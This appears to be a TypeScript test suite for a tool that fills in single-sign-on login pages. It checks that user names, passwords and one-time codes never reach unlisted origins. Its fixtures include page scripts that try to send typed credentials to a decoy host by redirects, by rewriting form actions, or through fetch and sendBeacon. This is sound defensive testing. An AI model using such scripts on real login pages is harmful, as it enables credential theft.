import { Deadline } from '../../src/core/deadline.ts';
import { findWord } from '../../src/portal/credential-requests.ts';
import { Secret } from '../../src/secrets/secret.ts';
import { OneTimeCodes } from '../../src/sso/one-time-codes.ts';
import { startDecoy } from '../faults/fault-proxy.ts';
import { expect, test } from '../fixtures.ts';
import type { Answer } from './serve-portal.ts';
import {
  ASSERT,
  type Asked,
  ask,
  DONE,
  PERSON,
  redirect,
  serveProvider,
  withBody,
} from './serve-provider.ts';

test.use({ sharesBrowser: true });

const WORDS = ['--timeout', '60s'];

/** A way in which a provider would take what is typed to another origin. */
interface Away {
  readonly files: (what: Asked, decoy: string) => Readonly<Record<string, Answer>>;
  /** Whether it is the redirect that would. */
  readonly redirects?: boolean;
  /** That of which `npm test` sees the way. */
  readonly seenWith?: readonly Asked[];
}

const SUBMIT_BY_SCRIPT = `form.onsubmit = (event) => {
  event.preventDefault();
  fetch('/take', { method: 'POST', body: new URLSearchParams(new FormData(form)) });
};`;

const ways: Readonly<Record<string, Away>> = {
  'answers its form with 307': {
    files: (what, decoy) => ({ '/': ask(what), '/take': redirect(307, `${decoy}/took`) }),
    redirects: true,
    seenWith: ['password', 'one-time code'],
  },
  'answers its script with 308': {
    files: (what, decoy) => ({ '/': ask(what, SUBMIT_BY_SCRIPT), '/take': redirect(308, `${decoy}/took`) }),
    redirects: true,
  },
  // A browser turns POST alone into GET then.
  'answers its script, which sends it by PUT, with 302': {
    files: (what, decoy) => ({
      '/': ask(what, SUBMIT_BY_SCRIPT.replace('POST', 'PUT')),
      '/take': redirect(302, `${decoy}/took`),
    }),
    redirects: true,
    seenWith: ['user name'],
  },
  'turns its form round when it is sent': {
    files: (what, decoy) => ({ '/': ask(what, `form.onsubmit = () => { form.action = '${decoy}/took'; };`) }),
    seenWith: ['one-time code'],
  },
  'turns its button round when it is pressed': {
    files: (what, decoy) => ({
      '/': ask(what, `button.onclick = () => { button.formAction = '${decoy}/took'; };`),
    }),
  },
  'sends it into a new tab': {
    files: (what, decoy) => ({
      '/': ask(what, `form.onsubmit = () => { form.action = '${decoy}/took'; form.target = '_blank'; };`),
    }),
  },
  'sends it into a frame': {
    files: (what, decoy) => ({
      '/': `${ask(what, `form.onsubmit = () => { form.action = '${decoy}/took'; form.target = 'inner'; };`)}<iframe name="inner"></iframe>`,
    }),
  },
  'tells it by script first': {
    files: (what, decoy) => ({
      '/': ask(
        what,
        `form.onsubmit = (event) => {
          event.preventDefault();
          fetch('${decoy}/took', { method: 'POST', body: input.value }).catch(() => {}).then(() => form.submit());
        };`,
      ),
      '/take': ask(what),
    }),
    seenWith: ['user name', 'one-time code'],
  },
};

for (const [how, { files, redirects = false, seenWith = [] }] of Object.entries(ways))
  for (const what of ['user name', 'password', 'one-time code'] as const)
    test(`a provider that asks for the ${what} and ${how} gets it to no origin that is not listed: exit 4, saying what went where`, {
      tag: seenWith.includes(what) ? [] : '@extended',
    }, async ({ startServer, runCommand }) => {
      const server = await startServer();
      await using decoy = await startDecoy();
      await using provider = await serveProvider(server, files(what, decoy.url));
      const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

      expect(decoy.heard, stderr).toEqual([]);
      expect(code, stderr).toBe(4);
      expect(stderr).toContain(
        redirects
          ? `the ${what} was given to ${provider.url}/take, which redirected it to ${decoy.url}/took, and it was not sent there`
          : `${decoy.url}, which is not listed, and was stopped`,
      );
      // Of a user name that the page was kept from telling somebody else of, the page's own form may still tell the provider.
      const isGiven = redirects || (what === 'user name' && how === 'tells it by script first');
      expect(withBody(provider.heard)).toHaveLength(isGiven ? 1 : 0);
    });

for (const what of ['user name', 'password', 'one-time code'] as const)
  test(`a provider that asks for the ${what} and breaks the connection is sent it once: exit 4, saying that it got no reply`, {
    tag: what === 'password' ? [] : '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using provider = await serveProvider(server, {
      '/': ask(what),
      '/take': ({ socket }) => void socket.resetAndDestroy(),
    });
    const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

    expect(withBody(provider.heard), stderr).toHaveLength(1);
    expect(code, stderr).toBe(4);
    expect(stderr).toMatch(new RegExp(`the ${what} got no reply .*it is not submitted again`));
  });

/** As Entra ID's page does with a code. @param questions asked one after another before the form is sent */
const askFirst = (
  questions: readonly string[],
  sending = 'form.submit();',
): string => `form.onsubmit = async (event) => {
  event.preventDefault();
  const elsewhere = (path) => location.origin.replace('127.0.0.1', 'localhost') + path;
  const post = (path, options = { body: JSON.stringify({ given: input.value }) }) =>
    fetch(path, { method: 'POST', ...options }).catch(() => {});
  ${questions.map((question) => `await post(${question});`).join('\n')}
  ${sending}
};`;

const SENT_BOTH = [
  expect.stringMatching(/^POST \/check \{"given":"\d{6}"\}$/),
  expect.stringMatching(/^POST \/take code=\d{6}$/),
];

/** Pages whose script asks whether a code is right, and whose form takes it along then, which is let once. */
const followed: Readonly<Record<string, string>> = {
  'by its script, and then by its form': askFirst(["'/check'"]),
  'by its script again, before it is by its form': askFirst(["'/check'", "'/check/again'"]),
};

for (const [how, script] of Object.entries(followed))
  test(`a code is sent ${how}, as a page asks whether it is right: it leaves twice, and the key is made`, {
    tag: how.includes('again') ? '@extended' : [],
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using provider = await serveProvider(server, {
      '/': ask('one-time code', script),
      '/check': 'right',
      '/check/again': 'right',
      '/take': redirect(303, DONE),
    });
    const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

    expect(withBody(provider.heard), stderr).toEqual(SENT_BOTH);
    expect(code, stderr).toBe(0);
  });

/** Who would get with a form what a script was sent with already, and does not. */
const followers: Readonly<Record<string, { readonly what?: Asked; readonly script: string }>> = {
  'takes a password along': { what: 'password', script: askFirst(["'/check'"]) },
  'takes a code along which its script was told is wrong': { script: askFirst(["'/wrong'"]) },
  'takes a code along which its script has put into a header': {
    script: askFirst(["'/check', { headers: { 'x-code': input.value } }"]),
  },
  'takes a code along to another listed origin': {
    script: askFirst(["'/check'"], "form.action = elsewhere('/take'); form.submit();"),
  },
  'takes a code along to another listed origin, which its script has asked': {
    script: askFirst(["elsewhere('/check')"], "form.action = elsewhere('/take'); form.submit();"),
  },
  'takes a code along into a frame': {
    script: askFirst(
      ["'/check'"],
      "document.body.insertAdjacentHTML('beforeend', '<iframe name=\"inner\"></iframe>'); form.target = 'inner'; form.submit();",
    ),
  },
};

for (const [how, { what = 'one-time code', script }] of Object.entries(followers))
  test(`a form that ${how} is stopped: exit 4`, { tag: '@extended' }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using provider = await serveProvider(server, {
      '/': ask(what, script),
      '/check': 'right',
      '/wrong': (_, outgoing) => void outgoing.writeHead(400).end(),
      '/take': redirect(303, DONE),
    });
    const origins = `${provider.url},${provider.url.replace('127.0.0.1', 'localhost')}`;
    const env = { ...provider.env, OCTOPUS_SSO_ORIGINS: origins };
    const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });

    expect(
      provider.heard.filter((line) => /^POST .*(?:check|wrong|take)/.test(line)),
      stderr,
    ).toHaveLength(1);
    expect(code, stderr).toBe(4);
  });

/** What may come of a code that a form takes along. */
interface End {
  readonly take: Answer;
  readonly said: string;
  /** What the page does in the place of sending its form once. */
  readonly sending?: string;
  readonly words?: readonly string[];
}

const ends: Readonly<Record<string, (decoy: string) => End>> = {
  'a redirect that would take it elsewhere is not followed': (decoy) => ({
    take: redirect(307, `${decoy}/took`),
    said: `which redirected it to ${decoy}/took, and it was not sent there`,
  }),
  'a connection that breaks is not tried again': () => ({
    take: ({ socket }) => void socket.resetAndDestroy(),
    said: 'the one-time code got no reply',
  }),
  'a reply that does not come is waited for': () => ({
    take: () => {},
    said: 'no reply to the one-time code came in time',
    words: ['--timeout', '15s'],
  }),
  'the form is not sent again': () => ({
    take: (_, outgoing) => void outgoing.writeHead(204).end(),
    said: 'its page was about to send it again, and was stopped',
    sending: 'form.submit(); setTimeout(() => form.submit(), 300);',
  }),
};

for (const [what, end] of Object.entries(ends))
  test(`where a form takes a code along that its script was sent with, ${what}: exit 4`, {
    tag: '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using decoy = await startDecoy();
    const { take, said, sending, words = WORDS } = end(decoy.url);
    await using provider = await serveProvider(server, {
      '/': ask('one-time code', askFirst(["'/check'"], sending)),
      '/check': 'right',
      '/take': take,
    });
    const { code, stderr } = await runCommand('mint-key', { env: provider.env, words });

    expect(decoy.heard, stderr).toEqual([]);
    expect(withBody(provider.heard), stderr).toEqual(SENT_BOTH);
    expect(code, stderr).toBe(4);
    expect(stderr).toContain(said);
  });

// A browser turns a POST that is so redirected into a GET without its body, and keeps its headers.
for (const [method, status] of [
  ['GET', 302],
  ['POST', 302],
  ['POST', 303],
] as const)
  test(`a header that a script put the password into, by ${method}, is taken along by no redirect, of ${status}: exit 4`, {
    tag: status === 302 ? [] : '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using decoy = await startDecoy();
    const script = `form.onsubmit = (event) => {
    event.preventDefault();
    fetch('/take', { method: '${method}', headers: { 'x-proof': input.value } });
  };`;
    await using provider = await serveProvider(server, {
      '/': ask('password', script),
      '/take': redirect(status, `${decoy.url}/took`),
    });
    const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

    expect(decoy.heard, stderr).toEqual([]);
    expect(code, stderr).toBe(4);
    expect(stderr).toContain(`which redirected it to ${decoy.url}/took`);
  });

test('a form whose script is late puts no one-time code into an address: it is sent once, and the key is made', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  const page = `<script src="/late.js" async></script>${ask('one-time code', '', 'action="/take"')}`;
  await using provider = await serveProvider(server, {
    '/': page,
    '/late.js': (_, outgoing) =>
      void setTimeout(
        () =>
          outgoing
            .writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' })
            .end("document.forms[0].method = 'post';"),
        300,
      ),
    '/take': redirect(303, DONE),
  });
  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: ['--timeout', '60s'] });

  expect(code, stderr).toBe(0);
  expect(withBody(provider.heard)).toEqual([expect.stringMatching(/^POST \/take code=\d{6}$/)]);
  expect(provider.heard.filter((line) => line.includes('?'))).toEqual([]);
});

test('a provider may ask often who it is, take the password at another listed origin, and send itself back by a form', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  const ASKING = `form.onsubmit = async (event) => {
    event.preventDefault();
    navigator.sendBeacon('${decoy.url}/telemetry', 'a page was shown');
    await fetch('${decoy.url}/telemetry', { method: 'POST', body: input.value }).catch(() => {});
    for (const path of ['/who', '/whose']) await fetch(path, { method: 'POST', body: JSON.stringify({ username: input.value }) });
    form.submit();
  };`;
  await using second = await serveProvider(server, {
    '/password': ask('password'),
    '/take': (incoming, outgoing) => redirect(303, provider.url + ASSERT)(incoming, outgoing),
  });
  await using provider = await serveProvider(server, {
    '/': ask('user name', ASKING),
    '/take': redirect(303, `${second.url}/password?login_hint=${encodeURIComponent(PERSON.username)}`),
  });
  const env = { ...provider.env, OCTOPUS_SSO_ORIGINS: `${provider.url},${second.url}` };
  const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });

  expect(code, stderr).toBe(0);
  expect(withBody(provider.heard).map((line) => line.split(' ')[1])).toEqual(['/who', '/whose', '/take']);
  expect(withBody(second.heard)).toEqual([`POST /take password=${PERSON.password}`]);
  expect(decoy.heard.join('\n')).toContain('a page was shown');
  expect(decoy.heard.join('\n')).not.toContain(PERSON.username);
});

test('where the user name was handed on in an address, that is said of the page where nothing was typed: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  await using provider = await serveProvider(server, {
    '/': ask('user name'),
    '/take': redirect(303, `${decoy.url}/page?login_hint=${encodeURIComponent(PERSON.username)}`),
  });
  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain(
    `was sent to ${decoy.url}, which is not listed, and nothing was typed there, but the user name stands in its address`,
  );
  expect(decoy.heard.join('\n')).not.toContain('username=');
});

test('a page that is the reply to the password is not loaded anew for the sake of its form, which would send the password again: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  await using provider = await serveProvider(server, {
    '/': ask('password'),
    '/take': ask('one-time code', '', 'action="/code"'),
  });
  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

  expect(withBody(provider.heard), stderr).toEqual([`POST /take password=${PERSON.password}`]);
  expect(provider.heard.filter((line) => line.includes('?'))).toEqual([]);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain('the form would send the one-time code in the address of a page');
});

test('a form that leads to an origin that is not listed is not filled in, and that is said: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  const page = ask('one-time code', `button.formAction = '${decoy.url}/took';`);
  await using provider = await serveProvider(server, { '/': page });
  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain(
    `the form of ${provider.url}/ sends what is typed to ${decoy.url}, which is not listed, and was not filled in`,
  );
  expect(decoy.heard).toEqual([]);
});

test('a page that sends the password while it is typed, and alters it, is not said to have sent nothing: exit 4', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  const script = `input.oninput = async () => {
    const { value } = input;
    input.value = value + '!';
    await fetch('/take', { method: 'POST', body: value });
    location = '/again';
  };`;
  await using provider = await serveProvider(server, {
    '/': ask('password', script),
    '/take': 'taken',
    '/again': ask('password'),
  });
  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

  expect(withBody(provider.heard)).toEqual([`POST /take ${PERSON.password}`]);
  expect(code, stderr).toBe(4);
  expect(stderr).toMatch(/the password is asked for again .*it was submitted once/);
});

test('a user name and a code are known again where they stand by themselves, and not within something else', () => {
  const found: Readonly<Record<string, readonly string[]>> = {
    admin: [
      'username=admin',
      '{"user":"Admin"}',
      'CORP\\admin',
      'a=1&login_hint=admin',
      '%22admin%22',
      'admin',
    ],
    'jörg+1@example.com': [
      'u=j%C3%B6rg%2B1%40example.com',
      '{"u":"j\\u00f6rg+1@example.com"}',
      'u=j%25C3%25B6rg%252B1%2540EXAMPLE.COM',
    ],
    'Jane Doe': ['name=Jane+Doe', 'name=Jane%20Doe', 'Jane Doe'],
    'CORP\\jane': ['{"u":"CORP\\\\jane"}', 'u=CORP%5Cjane'],
    '123456': ['code=123456', '{"code":123456}', '%22123456%22', 'a=1&code=123456&b=2', '123456'],
  };
  const missed: Readonly<Record<string, readonly string[]>> = {
    admin: ['administrator', '/badmin', 'sysadmin=1'],
    '123456': ['1234567', '0123456', 'at=1712345678', 'id=ab123456', '12345'],
  };
  for (const [word, texts] of Object.entries(found))
    for (const text of texts) expect(findWord(word)(text), `${word} in ${text}`).toBe(true);
  for (const [word, texts] of Object.entries(missed))
    for (const text of texts) expect(findWord(word)(text), `${word} in ${text}`).toBe(false);
});

test('a code that has not left is given again, and one that may have is not', async () => {
  // Half of a window is left, and it stays so.
  await atTime(1_800_000_015_000, async () => {
    const codes = new OneTimeCodes(new Secret(PERSON.totpSecret));
    const take = async () => (await codes.next(Deadline.ofRun(500))).reveal();
    const first = await take();
    codes.takeBack();
    const second = await take();
    const third = take();

    expect(second).toBe(first);
    await expect(third).rejects.toThrow('the time is over');
  });
});

test('a code that ends within a second, and may be over when it arrives, is not given', async () => {
  await atTime(1_900_000_019_000, async () => {
    const codes = new OneTimeCodes(new Secret(PERSON.totpSecret));
    await expect(codes.next(Deadline.ofRun(500))).rejects.toThrow('the time is over');
  });
});

/** Does work for which the clock stands still. */
async function atTime(time: number, work: () => Promise<void>): Promise<void> {
  const { now } = Date;
  Date.now = () => time;
  try {
    await work();
  } finally {
    Date.now = now;
  }
}

test('a provider that answers 201, and where it has made a session, redirects nothing: the key is made', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  const script = SUBMIT_BY_SCRIPT.replace(
    /\);\s*};$/,
    `).then(({ ok }) => { if (ok) location = '${DONE}'; });\n};`,
  );
  await using provider = await serveProvider(server, {
    '/': ask('user name and password', script),
    '/take': redirect(201, '/sessions/17'),
  });
  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

  expect(code, stderr).toBe(0);
  expect(withBody(provider.heard)).toHaveLength(1);
});
